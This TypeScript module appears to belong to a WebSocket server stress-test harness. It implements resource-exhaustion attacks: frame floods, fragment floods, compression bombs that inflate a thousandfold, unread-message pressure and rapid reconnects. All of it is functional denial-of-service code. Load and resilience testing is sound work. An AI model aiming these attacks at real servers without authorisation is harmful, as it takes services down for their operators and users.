/**
 * Peers that take all they can get of a server: by a flood of frames that cost it much and them little,
 * by bombs, or by honest work without a pause.
 *
 * Started by `siege.ts` with an {@linkcode AttackerJob} in JSON as its argument. Prints `attacking`
 * once all are connected, and goes on until it is killed.
 *
 * @module
 */

import { AnswerCounter, concat } from "./answers.ts";
import { connect, type Endpoint, writeAll } from "./connection.ts";
import { sleep } from "./meter.ts";
import {
  BINARY,
  compressedPayload,
  CONTINUATION,
  PING,
  repeated,
  TEXT,
  wireFrame,
  type WireOptions,
} from "./wire.ts";

/** What a connection can be flooded with. */
export const FLOODS = ["empty", "tiny", "pings", "fragments"] as const;

/** One of {@linkcode FLOODS}. */
export type Flood = typeof FLOODS[number];

/**
 * A flood; messages of 16 KB that inflate to 16 MiB; messages of 4 KiB, one after another; messages that the
 * server sends to all who attack, one after another; or messages whose answers are not read.
 */
export type Attack = Flood | "bombs-text" | "bombs-binary" | "busy" | "broadcast" | "unread";

/** What the attackers are to do. */
export interface AttackerJob {
  endpoint: Endpoint;
  attack: Attack;
  connections: number;
}

/** Bytes of a flood that are written at once. */
const FLOOD_BYTES = 256 * 1024;

/** Fragments of one message in a flood. */
const FRAGMENTS = 8192;

/** What a bomb inflates to: the most that servers take by default. */
const BOMB_BYTES = 16 * 1024 * 1024;

/** Bytes of a message of honest work: with its frame, one TLS record, so that no server waits between two. */
const BUSY_BYTES = 4 * 1024;

/** Bytes of a message whose answer is not read. */
const UNREAD_BYTES = 64 * 1024;

/** So many connections are opened at once. */
const OPENING = 16;

/** Bytes of a message to all. */
const BROADCAST_BYTES = 200;

/** Between the end of a connection and the next, in milliseconds: handshakes are another attack. */
const RECONNECT_MS = 100;

/** A run of frames to be written over and over, from either end. */
export function floodOf(flood: Flood, options: WireOptions = {}): Uint8Array {
  switch (flood) {
    case "empty":
      return repeated(wireFrame(TEXT, "", options), FLOOD_BYTES);
    case "tiny":
      return repeated(wireFrame(TEXT, "x", options), FLOOD_BYTES);
    case "pings":
      return repeated(wireFrame(PING, "", options), FLOOD_BYTES);
    case "fragments": {
      const middle = wireFrame(CONTINUATION, "x", { ...options, fin: false });
      return concat([
        wireFrame(TEXT, "x", { ...options, fin: false }),
        ...Array(FRAGMENTS).fill(middle),
        wireFrame(CONTINUATION, "x", options),
      ]);
    }
  }
}

/** A message that inflates to a thousand times its size. */
export function bombOf(opcode: number, options: WireOptions = {}): Uint8Array {
  const payload = new Uint8Array(BOMB_BYTES).fill(0x61);
  return wireFrame(opcode, compressedPayload(payload), { ...options, compressed: true });
}

/** Writes without end, and throws away what comes back. */
async function flood(connection: Deno.Conn, frames: Uint8Array): Promise<void> {
  const reading = (async () => {
    const buffer = new Uint8Array(256 * 1024);
    while (await connection.read(buffer) !== null);
    throw new Error("The server ended the connection");
  })();
  const writing = (async () => {
    for (;;) await writeAll(connection, frames);
  })();
  await Promise.race([reading, writing]);
}

/** Writes without end, and reads nothing. */
async function pour(connection: Deno.Conn, frames: Uint8Array): Promise<void> {
  for (;;) await writeAll(connection, frames);
}

/** Sends a message, awaits the answer, and sends the next. */
async function converse(connection: Deno.Conn, message: Uint8Array): Promise<void> {
  const counter = new AnswerCounter();
  const buffer = new Uint8Array(64 * 1024);
  for (;;) {
    await writeAll(connection, message);
    for (let answers = 0; answers === 0;) {
      const count = await connection.read(buffer);
      if (count === null) throw new Error("The server ended the connection");
      answers = counter.push(buffer, count);
    }
  }
}

/** One connection sends, all receive; when all have, it sends the next. */
async function broadcast(connections: Deno.Conn[], message: Uint8Array): Promise<void> {
  let missing = 0;
  const send = () => {
    missing = connections.length;
    return writeAll(connections[0]!, message);
  };
  const listening = connections.map(async (connection) => {
    const counter = new AnswerCounter();
    const buffer = new Uint8Array(1024);
    for (;;) {
      const count = await connection.read(buffer);
      if (count === null) throw new Error("The server ended a connection");
      missing -= counter.push(buffer, count);
      if (missing === 0) await send();
    }
  });
  await send();
  await Promise.all(listening);
}

/** Attacks on one connection after another, for a server may end them. */
async function attackOn(
  { endpoint, attack }: AttackerJob,
  bytes: Uint8Array,
  first: Deno.Conn,
): Promise<never> {
  const isFlood = (FLOODS as readonly string[]).includes(attack);
  const act = isFlood ? flood : attack === "unread" ? pour : converse;
  for (let connection: Deno.Conn | undefined = first;;) {
    if (connection !== undefined) {
      await act(connection, bytes).catch(() => {});
      connection.close();
    }
    await sleep(RECONNECT_MS);
    connection = await connect(endpoint, modeOf(attack)).then(
      ({ connection }) => connection,
      () => undefined,
    );
  }
}

function modeOf(attack: Attack) {
  return attack.startsWith("bombs") ? "no-context" : "plain";
}

function bytesOf(attack: Attack): Uint8Array {
  switch (attack) {
    case "bombs-text":
      return bombOf(TEXT);
    case "bombs-binary":
      return bombOf(BINARY);
    case "busy":
      return wireFrame(BINARY, new Uint8Array(BUSY_BYTES));
    case "broadcast":
      return wireFrame(BINARY, new Uint8Array(BROADCAST_BYTES));
    case "unread":
      return wireFrame(BINARY, new Uint8Array(UNREAD_BYTES));
    default:
      return floodOf(attack);
  }
}

async function run(job: AttackerJob): Promise<void> {
  const bytes = bytesOf(job.attack);
  const connections: Deno.Conn[] = [];
  let left = job.connections;
  await Promise.all(Array.from({ length: OPENING }, async () => {
    while (left-- > 0) {
      const { connection, extensions } = await connect(job.endpoint, modeOf(job.attack));
      if (modeOf(job.attack) !== "plain" && extensions === "") {
        throw new Error("Cannot attack: the server does not compress");
      }
      connections.push(connection);
    }
  }));
  console.log("attacking");
  if (job.attack === "broadcast") return await broadcast(connections, bytes);
  await Promise.all(connections.map((connection) => attackOn(job, bytes, connection)));
}

if (import.meta.main) await run(JSON.parse(Deno.args[0]!));
